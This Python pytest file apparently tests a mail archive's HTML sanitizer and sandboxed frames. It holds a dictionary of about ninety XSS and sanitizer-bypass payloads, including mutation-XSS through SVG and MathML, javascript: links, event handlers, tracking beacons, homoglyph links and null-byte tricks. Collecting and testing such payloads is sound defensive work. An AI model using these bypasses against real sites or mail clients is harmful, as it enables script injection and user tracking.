"""S8 to S11, S14, S18: the HTML of mail in its frame, sanitized, framed and checked.

The hostile list holds every payload as HTML mail; to them come what is known to have
passed sanitizers: elements that a second reading moves, foreign content, parser tricks.
"""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from pathlib import Path
from types import ModuleType
from typing import Any

import html5lib
import pytest

from posterity.render import urls
from posterity.render.htmlmail import MAX_DEPTH, MAX_SOURCE, MAX_TAGS, sanitized

UNSAFE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="{policy}"><title>x</title>
<style>{style}</style></head><body><div class="sent" dir="auto">{html}</div></body></html>"""
LIVE = 75
"""Payloads that the checker must flag at least where they are printed as they are."""

_X = "<img src=x onerror=alert(1)>"
TRICKS: dict[str, str] = {
    "math-style": f"<math><mtext><table><mglyph><style><!--</style>{_X}",
    "math-annotation": f"<math><annotation-xml encoding=text/html><style>{_X}</style>",
    "math-mi-title": f"<math><mi><title>{_X}</title></mi></math>",
    "svg-style": f"<svg></p><style><a id='</style>{_X}'>",
    "svg-desc": f"<svg><desc><noscript></desc>{_X}",
    "svg-foreign": f"<svg><foreignObject><p><style><!--</style>{_X}-->",
    "svg-cdata": f"<svg><![CDATA[</svg>{_X}]]>",
    "svg-xlink": "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "svg-set": "<svg><a><set attributeName=href to='javascript:alert(1)'/>x</a></svg>",
    "svg-image": "<svg><image href='http://track.example/9.png'/></svg>",
    "svg-title": f"<svg><title><style></title>{_X}</style>",
    "noscript-attr": f"<noscript><p title='</noscript>{_X}'>",
    "noembed": f"<noembed><p title='</noembed>{_X}'>",
    "noframes": f"<noframes><p title='</noframes>{_X}'>",
    "xmp": f"<xmp><p title='</xmp>{_X}'>",
    "plaintext": f"<plaintext>{_X}",
    "listing": f"<listing>&lt;img src=x onerror=alert(1)&gt;</listing>{_X}",
    "title-in-div": f"<div><title><a alt='</title>{_X}'></title></div>",
    "textarea-attr": f"<textarea><p title='</textarea>{_X}'>",
    "select-in-table": f"<table><select><table>{_X}",
    "option-style": f"<select><option><style></option></select>{_X}</style>",
    "form-nest": "<form><div></form><form id=f><input name=attributes></form>",
    "form-math": f"<form><math><mtext></form><form><mglyph><style></math>{_X}",
    "template-deep": f"<template><template><div>{_X}</template>",
    "frameset": "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "html-attr": "<html onclick=alert(1)><body onload=alert(1) background=//t.example/1>",
    "table-background": "<table background=http://t.example/2><td background=//t.example/3>x",
    "lowsrc": "<img lowsrc=http://t.example/4 dynsrc=http://t.example/5 src=cid:no>",
    "picture": "<picture><source srcset=http://t.example/6><img src=http://t.example/7></picture>",
    "video-poster": "<video poster=http://t.example/8 src=http://t.example/9><source src=x onerror=alert(1)></video>",
    "audio": "<audio src=http://t.example/a autoplay onerror=alert(1)>",
    "track": "<video><track src=http://t.example/b default></video>",
    "marquee": "<marquee onstart=alert(1) loop=1>x</marquee>",
    "details-toggle": "<details open ontoggle=alert(1)>x</details>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "keygen": "<keygen autofocus onfocus=alert(1)>",
    "button-formaction": "<button formaction=javascript:alert(1)>x</button>",
    "isindex": "<isindex type=image src=1 onerror=alert(1) action=javascript:alert(1)>",
    "dialog": "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "portal": "<portal src=javascript:alert(1)></portal>",
    "fencedframe": "<fencedframe config=x></fencedframe>",
    "applet": "<applet archive=//t.example/x.jar code=X>x</applet>",
    "layer": "<layer src=//t.example/><ilayer src=//t.example/>",
    "bgsound": "<bgsound src=//t.example/a.wav>",
    "xss-expression": "<div style='width:expression(alert(1))'>x</div>",
    "xss-binding": "<div style='-moz-binding:url(//t.example/x.xml#x)'>x</div>",
    "style-attr-import": "<div style='}*{background:url(//t.example/c)}'>x</div>",
    "style-media": "<style media=all>body{background:url(//t.example/d)}</style>",
    "link-preload": "<link rel=preload as=image href=//t.example/e>",
    "link-dns": "<link rel=dns-prefetch href=//t.example>",
    "meta-csp": '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "meta-set-cookie": "<meta http-equiv=Set-Cookie content=a=b>",
    "meta-referrer": "<meta name=referrer content=unsafe-url>",
    "base-target": "<base target=_top href=javascript:/>",
    "a-ping": "<a href=http://ok.example/ ping=http://t.example/f>x</a>",
    "a-download": "<a href=http://ok.example/ download=x.exe target=_top>x</a>",
    "a-userinfo": "<a href=http://bank.example@t.example/>http://bank.example/</a>",
    "a-idn": "<a href=http://b\u0430nk.example/>bank</a>",
    "a-backslash": "<a href='http:\\\\t.example/'>x</a>",
    "a-no-scheme": "<a href=//t.example/>x</a><a href=/etc/passwd>y</a><a href=#main>z</a>",
    "a-control": "<a href='\x01javascript:alert(1)'>x</a><a href='java&#10;script:x'>y</a>",
    "a-colon": "<a href='javascript&colon;alert(1)'>x</a><a href='j&Tab;avascript:x'>y</a>",
    "a-blob": "<a href=blob:http://x/1>x</a><a href=filesystem:x>y</a><a href=view-source:x>z</a>",
    "a-mailto-body": "<a href='mailto:a@b.example?bcc=c@d.example&body=x'>x</a>",
    "a-cid": "<a href=cid:picture@example.org>x</a>",
    "img-data": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "img-cid-case": "<img src=CID:nobody@example.org onload=alert(1)>",
    "img-usemap": "<img usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "img-attr-slash": "<img/src='x'/onerror='alert(1)'/>",
    "img-null": "<img src=x\0 onerror\0=alert(1)>",
    "tag-null": "<scr\0ipt>alert(1)</scr\0ipt><\0script>alert(1)</script>",
    "tag-junk": "<a<b onclick=alert(1)>x</a<b>",
    "attr-equals": '<p =onclick=alert(1) ="x>y">x</p>',
    "attr-entity": "<p title='&quot;><script>alert(1)</script>'>x</p>",
    "attr-twice": "<img src=cid:x src=http://t.example/g>",
    "attr-case": "<IMG SRC=x OnErRoR=alert(1)>",
    "attr-namespace": "<p xml:base=javascript: xmlns:x=x x:onclick=alert(1)>x</p>",
    "is-attr": "<p is=x-evil slot=y part=z nonce=n contenteditable accesskey=x>x</p>",
    "style-scoped": "<p hidden inert popover id=x popovertarget=x>x</p>",
    "comment-nest": f"<!-- <!-- --> {_X} -->",
    "comment-dash": f"<!---!>{_X}-->",
    "cond-comment": f"<!--[if gte IE 4]>{_X}<![endif]-->",
    "cond-comment-down": f"<![if !IE]>{_X}<![endif]>",
    "pi": f"<?xml version='1.0'?>{_X}",
    "bogus-close": f"</ {_X}></p {_X}>",
    "unclosed-attr": "<img src='x onerror=alert(1)",
    "nested-a": "<a href=http://a.example/><a href=http://b.example/>x</a></a>",
    "table-foster": f"<table>{_X}<tr><script>alert(1)</script><td>x",
    "reorder": "&#x202e;gnp.exe&#8237; &rlm; &#8294;x",
    "huge-span": "<table><tr><td colspan=99999 rowspan=1000000>x</table>",
    "dir-junk": "<p dir='\"><script>' lang='\"onload=x'>x</p>",
}
"""HTML that has been, or might be, live after somebody's sanitizer; all ours."""


@pytest.fixture(scope="session")
def judge_view() -> ModuleType:
    """The checker of views."""
    import importlib.util  # noqa: PLC0415 - as tests/rows/conftest.py does

    place = Path(__file__).with_name("judge_view.py")
    spec = importlib.util.spec_from_file_location("rows_judge_view", place)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="module")
def payloads(makers: ModuleType) -> dict[str, str]:
    """Everything that is tried."""
    return {**makers.PAYLOADS, **TRICKS}


def framed(judge_view: ModuleType, html: str) -> str:
    """A view that holds some HTML as it is."""
    style = judge_view.STYLE
    return UNSAFE.format(policy=judge_view.policy(style), style=style, html=html)


def test_the_checker_flags_what_is_not_sanitized(
    judge_view: ModuleType, payloads: dict[str, str]
) -> None:
    """Printed as they are, nearly all payloads are found; plain HTML is not."""
    flagged = {
        name
        for name, html in payloads.items()
        if judge_view.judge_view(framed(judge_view, html)).findings
    }
    plain = (
        "<p>tea <b>now</b> <a href='http://a.example/' rel='nofollow noopener ugc'>a</a>"
    )

    assert len(payloads) >= 170
    assert len(flagged & TRICKS.keys()) >= LIVE
    assert [] == judge_view.judge_view(framed(judge_view, plain)).findings


def test_s8_s14_s18_nothing_sanitized_is_live(
    judge_view: ModuleType, payloads: dict[str, str]
) -> None:
    """Alone, in a paragraph, in a table, after an open tag: no finding at all."""
    found = {}
    for name, html in payloads.items():
        for around in (
            "{}",
            "<p>tea {} tea</p>",
            "<table><tr><td>{}",
            "<b><i {}",
            "'\"><a href='{}",
        ):
            clean = sanitized(around.replace("{}", html), {})
            findings = judge_view.judge_view(framed(judge_view, clean)).findings
            if findings:
                found[name, around] = findings

    assert {} == found


def test_s9_s10_sanitizing_twice_is_sanitizing_once(payloads: dict[str, str]) -> None:
    """And what another HTML5 parser reads of it is what it prints of it again."""
    for name, html in payloads.items():
        clean = sanitized(f"<p>tea {html}", {})
        if clean:
            assert clean == sanitized(clean, {}), name
        read = html5lib.parseFragment(clean, namespaceHTMLElements=False)
        text = html5lib.serialize(
            read, omit_optional_tags=False, quote_attr_values="always"
        )
        again = html5lib.parseFragment(text, namespaceHTMLElements=False)
        assert _shape(read) == _shape(again), name


def _shape(tree: Any) -> list[tuple[str, tuple[tuple[str, str], ...], str]]:
    return [
        (one.tag, tuple(sorted(one.attrib.items())), "".join(one.itertext()))
        for one in tree.iter()
    ]


def test_every_published_view_is_safe(hostile: Any, judge_view: ModuleType) -> None:
    """The hostile list, built: each view judged, each framed by its page, none else."""
    views = hostile.names("html")
    for name in views:
        html = (hostile.site / name).read_text("utf-8")
        assert [] == judge_view.judge_view(html).findings, name
    assert len(views) > 60
    framing = {
        Path(found).name
        for page in hostile.pages().values()
        for found in re.findall(r'<iframe src="([^"]+)"', page)
    }
    assert {Path(name).name for name in views} == framing


def test_a_frame_lets_nothing_run(hostile: Any) -> None:
    """Sandboxed without scripts, forms, or our origin; loaded only when it is opened."""
    frames = [
        found
        for page in hostile.pages().values()
        for found in re.findall(r"<iframe [^>]*>", page)
    ]

    assert frames
    for frame in frames:
        assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in frame
        assert 'loading="lazy"' in frame
        assert re.search(r'src="\.\./\.\./\.\./html/[0-9a-f]{64}\.htm"', frame)


def test_pictures_that_came_along_are_shown(
    build: Callable[..., Any], judge_view: ModuleType, makers: ModuleType
) -> None:
    """A cid: reference leads to our own copy, judged by its content; others to nothing."""
    gif = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
    body = (
        "--tea\nContent-Type: text/html\n\n"
        "<p>Look: <img src='cid:fog@example.org' alt=fog><img src=cid:evil@example.org>\n"
        "--tea\nContent-Type: image/gif\nContent-ID: <fog@example.org>\n"
        f"Content-Transfer-Encoding: base64\n\n{gif}\n"
        "--tea\nContent-Type: image/gif\nContent-ID: <evil@example.org>\n\n"
        "<script>alert(1)</script>\n--tea--\n"
    )
    one = makers.letter(
        "one",
        body,
        MIME_Version="1.0",
        Content_Type="multipart/related; boundary=tea",
    )
    built = build(makers.mbox([one]))
    digest = built.row("one@example.org").digest
    html = (built.site / urls.html_view(digest)).read_text("utf-8")
    judged = judge_view.judge_view(html)
    sources = [image.get("src") for image in judged.sent.iter("img")]

    assert [] == judged.findings
    assert sources[1] is None
    assert (built.site / "html" / sources[0]).resolve().read_bytes().startswith(b"GIF89a")


@pytest.mark.parametrize(
    ("name", "html"),
    [
        ("depth", "<blockquote>" * (MAX_DEPTH + 2) + "x"),
        ("tags", "<p>x" * (MAX_TAGS + 1)),
        ("size", "x" * (MAX_SOURCE + 1)),
        ("D4 divs", "<div>" * 50_000),
    ],
)
def test_what_passes_a_limit_is_shown_as_text_alone(name: str, html: str) -> None:
    """No view is offered; nothing is cut."""
    assert "" == sanitized(html, {}), name


@pytest.mark.parametrize(
    "html",
    [
        "".join(f"<font size={n}>" for n in range(MAX_TAGS // 2))
        + "<p>x" * (MAX_TAGS // 2),
        "<b>" * (MAX_TAGS // 2) + "<p>x" * (MAX_TAGS // 2),
        "<blockquote>" * MAX_TAGS,
        "<p " + " ".join(f"a{n}=1" for n in range(50_000)) + ">x",
        "<p title='" + "x" * 390_000 + "'>x",
        "".join(f"<b><i><a href={n}>" for n in range(1300)) + "</b></i></a>" * 1300,
    ],
    ids=["font", "bold", "nested", "attributes", "value", "misnested"],
)
def test_d4_the_worst_html_is_done_in_time(html: str) -> None:
    """Seconds of the processor, where a fault of growth would take minutes."""
    start = time.process_time()
    sanitized(html, {})

    assert time.process_time() - start < 10


def test_masked_addresses_are_in_no_view(
    build: Callable[..., Any], makers: ModuleType, tmp_path: Path
) -> None:
    """Where addresses are masked, HTML is shown as text alone."""
    folder = tmp_path / "A"
    folder.mkdir()
    (folder / "posterity.toml").write_text('addresses = "mask"\n')
    letter = makers.letter("one", "<p>ada&#64;example.org", Content_Type="text/html")
    built = build(makers.mbox([letter]))

    assert "mask" == built.archive.settings.addresses
    assert [] == built.names("html")
